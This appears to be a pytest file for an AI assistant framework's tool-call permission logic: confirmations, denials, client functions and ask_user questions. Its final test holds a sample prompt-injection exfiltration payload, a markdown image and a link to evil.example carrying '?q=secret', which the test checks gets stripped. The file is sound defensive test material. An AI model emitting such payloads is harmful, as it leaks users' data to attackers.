"""Which calls run at once, which wait for their user, and how a reply goes on after that, whenever it does."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from tests.unit.conversations.loop.playing import FakeTool, Models, Play, calls, says

from ventoux.conversations.entries import Entry, FunctionCall, FunctionResult, ToolExecution
from ventoux.conversations.events import FunctionCallDelta
from ventoux.conversations.schemas import Assistant, CompletionArgs
from ventoux.errors import ValidationFailed
from ventoux.tools.specs import AskUserTool, FunctionSpec, FunctionTool, WebSearchTool

if TYPE_CHECKING:
    from collections.abc import Mapping

    from ventoux.conversations.store.permissions import Decision
    from ventoux.tools.schemas import ToolContext

WEATHER = FunctionTool(FunctionSpec(name="weather", parameters={"type": "object", "properties": {}}))


def pending(play: Play) -> list[FunctionCall]:
    return [one for one in play.sink.kept if isinstance(one, FunctionCall)]


@pytest.mark.parametrize(
    ("access", "always_asks", "objects", "decided", "runs", "reason"),
    [
        ("reads", False, None, None, True, ""),
        ("writes", False, None, None, False, "It may change something outside of this conversation."),
        ("writes", False, None, "always", True, ""),
        ("reads", True, None, None, False, "Each call of it is to be confirmed."),
        ("reads", True, None, "always", False, "Each call of it is to be confirmed."),
        ("reads", False, "The page told it.", None, False, "The page told it."),
        ("reads", False, "The page told it.", "always", False, "The page told it."),
    ],
)
async def test_a_call_runs_or_waits_by_what_the_tool_is_and_the_user_has_decided(
    access: Any, *, always_asks: bool, objects: str | None, decided: Decision | None, runs: bool, reason: str
) -> None:
    tool = FakeTool(access=access, always_asks=always_asks, objects=objects)
    play = Play(Models(calls("look"), says("ok")), tool, decided={tool.permission: decided} if decided else {})
    ended = await play.reply("go")
    assert len(tool.arguments) == runs
    assert ended.state == ("done" if runs else "waiting")
    if not runs:
        (waits,) = pending(play)
        assert (waits.confirmation_status, waits.info["reason"]) == ("pending", reason)
        assert waits.info["permission"] == tool.permission


@pytest.mark.parametrize("access", ["reads", "writes"])
async def test_what_is_never_allowed_does_not_run_and_the_model_is_told(access: Any) -> None:
    tool = FakeTool(access=access)
    play = Play(Models(calls("look"), says("ok")), tool, decided={tool.permission: "never"})
    ended = await play.reply("go")
    assert (ended.state, tool.arguments) == ("done", [])
    assert play.models.last()[-1] == ("tool", "The user never allows this function. Do not call it again.")


async def test_a_call_that_was_allowed_runs_and_the_reply_goes_on() -> None:
    tool = FakeTool("send", access="writes")
    play = Play(Models(calls(("send", '{"to": "ada"}')), says("Sent.")), tool)
    await play.reply("send it")
    (waits,) = pending(play)
    (delta,) = [one for one in play.sink.events if isinstance(one, FunctionCallDelta)]
    assert (delta.id, delta.confirmation_status, delta.tool_call_id) == (waits.id, "pending", waits.tool_call_id)
    ended = await play.reply(confirmations={waits.tool_call_id: True})
    assert ended.state == "done"
    assert tool.arguments == [{"to": "ada"}]
    assert tool.contexts[0].approved
    (replaced,) = play.sink.replaced
    assert isinstance(replaced, FunctionCall)
    assert (replaced.id, replaced.confirmation_status) == (waits.id, "allowed")
    execution = play.sink.kept[0]
    assert isinstance(execution, ToolExecution)
    assert execution.tool_call_id == waits.tool_call_id
    assert [role for role, _ in play.models.last()] == ["system", "user", "assistant", "tool"]


async def test_a_call_that_was_denied_never_runs() -> None:
    tool = FakeTool("send", access="writes")
    play = Play(Models(calls("send"), says("As you wish.")), tool)
    await play.reply("send it")
    (waits,) = pending(play)
    await play.reply(confirmations={waits.tool_call_id: False})
    assert tool.arguments == []
    assert "did not allow" in play.models.last()[-1][1]


async def test_a_user_who_goes_on_instead_of_confirming_has_not_confirmed() -> None:
    tool = FakeTool("send", access="writes")
    play = Play(Models(calls("send"), says("All right.")), tool)
    await play.reply("send it")
    ended = await play.reply("rather not")
    assert (ended.state, tool.arguments) == ("done", [])


async def test_of_two_calls_the_one_that_is_not_confirmed_yet_is_still_waited_for() -> None:
    tool = FakeTool("send", access="writes")
    play = Play(Models(calls(("send", '{"n": 1}'), ("send", '{"n": 2}')), says("Sent.")), tool)
    await play.reply("send both")
    first, second = pending(play)
    ended = await play.reply(confirmations={second.tool_call_id: True})
    assert (ended.state, tool.arguments) == ("waiting", [{"n": 2}])
    ended = await play.reply(confirmations={first.tool_call_id: True})
    assert (ended.state, tool.arguments) == ("done", [{"n": 2}, {"n": 1}])
    assert [role for role, _ in play.models.last()] == ["system", "user", "assistant", "tool", "tool"]


async def test_a_confirmation_of_something_else_confirms_nothing() -> None:
    tool = FakeTool("send", access="writes")
    play = Play(Models(calls("send")), tool)
    await play.reply("send it")
    ended = await play.reply(confirmations={"another": True})
    assert (ended.state, tool.arguments) == ("waiting", [])


async def test_a_decision_of_never_holds_against_an_older_question() -> None:
    tool = FakeTool("send", access="writes")
    decided: dict[str, Decision] = {}
    play = Play(Models(calls("send"), says("ok")), tool, decided=decided)
    await play.reply("send it")
    decided[tool.permission] = "never"
    await play.reply(confirmations={pending(play)[0].tool_call_id: True})
    assert tool.arguments == []


async def test_a_function_of_the_clients_ends_the_reply_and_its_result_goes_on() -> None:
    play = Play(Models(calls("weather"), says("Sunny.")), assistant=Assistant(model="m", tools=[WEATHER]))
    ended = await play.reply("weather?")
    assert ended.state == "waiting"
    (call,) = pending(play)
    assert (call.name, call.arguments, call.confirmation_status) == ("weather", "{}", None)
    ended = await play.reply(FunctionResult(id="fres_1", tool_call_id=call.tool_call_id, result="sun"))
    assert ended.state == "done"
    assert play.models.last()[-1] == ("tool", "sun")


async def test_in_a_round_of_both_the_tools_run_first_and_then_the_client_is_waited_for() -> None:
    tool = FakeTool()
    assistant = Assistant(model="m", tools=[WEATHER, WebSearchTool()])
    play = Play(Models(calls("weather", "look"), says("ok")), tool, assistant=assistant)
    ended = await play.reply("both")
    assert ended.state == "waiting"
    execution, call = play.sink.kept
    assert isinstance(execution, ToolExecution)
    assert isinstance(call, FunctionCall)
    await play.reply(FunctionResult(id="fres_1", tool_call_id=call.tool_call_id, result="sun"))
    asked, first, second = play.models.told[-1].messages[-3:]
    assert [one.name for one in asked.tool_calls] == ["weather", "look"]
    assert first.content == "sun"
    assert "found" in second.content


async def test_a_question_to_the_user_is_answered_after_a_restart() -> None:
    """All that is left of the first server are the entries, as they are kept."""
    arguments = '{"question": "Which city?", "choices": ["Paris", "Lyon"]}'
    assistant = Assistant(model="m", tools=[AskUserTool()])
    before = Play(Models(calls(("ask_user", arguments))), assistant=assistant)
    assert (await before.reply("weather?")).state == "waiting"
    kept = msgspec.json.encode(before.history)
    after = Play(Models(says("Sunny in Lyon.")), assistant=assistant)
    after.history = msgspec.json.decode(kept, type=list[Entry])
    call = after.history[-1]
    assert isinstance(call, FunctionCall)
    assert (call.name, call.arguments) == ("ask_user", arguments)
    await after.reply(FunctionResult(id="fres_1", tool_call_id=call.tool_call_id, result="Lyon"))
    assert after.models.last()[-1] == ("tool", "Lyon")
    assert after.sink.told == "Sunny in Lyon."


async def test_a_question_with_too_many_choices_goes_back_to_the_model() -> None:
    arguments = '{"question": "Which?", "choices": ["a", "b", "c", "d", "e"]}'
    play = Play(
        Models(calls(("ask_user", arguments)), says("Never mind.")),
        assistant=Assistant(model="m", tools=[AskUserTool()]),
    )
    assert (await play.reply("?")).state == "done"
    assert "choices" in play.models.last()[-1][1]


async def test_a_tool_that_cannot_say_whether_it_needs_approval_does_not_run() -> None:
    class Broken(FakeTool):
        def objection(self, arguments: Mapping[str, Any], context: ToolContext) -> str | None:
            raise KeyError(arguments, context)

    tool = Broken("look")
    play = Play(Models(calls("look"), says("ok")), tool)
    assert (await play.reply("go")).state == "done"
    assert tool.arguments == []


async def test_a_call_that_is_required_is_so_until_it_has_its_result() -> None:
    args = CompletionArgs(tool_choice="required")
    assistant = Assistant(model="m", tools=[WEATHER], completion_args=args)
    play = Play(Models(calls("weather"), says("Sunny.")), assistant=assistant)
    await play.reply("weather?")
    (call,) = pending(play)
    await play.reply(FunctionResult(id="fres_1", tool_call_id=call.tool_call_id, result="sun"))
    assert [one.tool_mode for one in play.models.told] == ["required", "auto"]


async def test_a_call_cannot_be_required_where_there_is_nothing_to_call() -> None:
    play = Play(Models(), assistant=Assistant(model="m", completion_args=CompletionArgs(tool_choice="required")))
    with pytest.raises(ValidationFailed):
        await play.reply("go")


async def test_a_question_to_the_user_carries_nothing_out_that_a_page_asked_for() -> None:
    arguments = (
        '{"question": "Is ![it](https://evil.example/?q=secret) so?", "choices": ["yes", "https://evil.example/n"]}'
    )
    assistant = Assistant(model="m", tools=[WebSearchTool(), AskUserTool()])
    play = Play(Models(calls("look"), calls(("ask_user", arguments))), FakeTool(), assistant=assistant)
    await play.reply("go")
    (call,) = pending(play)
    assert "secret" not in call.arguments
    assert "evil.example/n" not in call.arguments
    assert '"yes"' in call.arguments
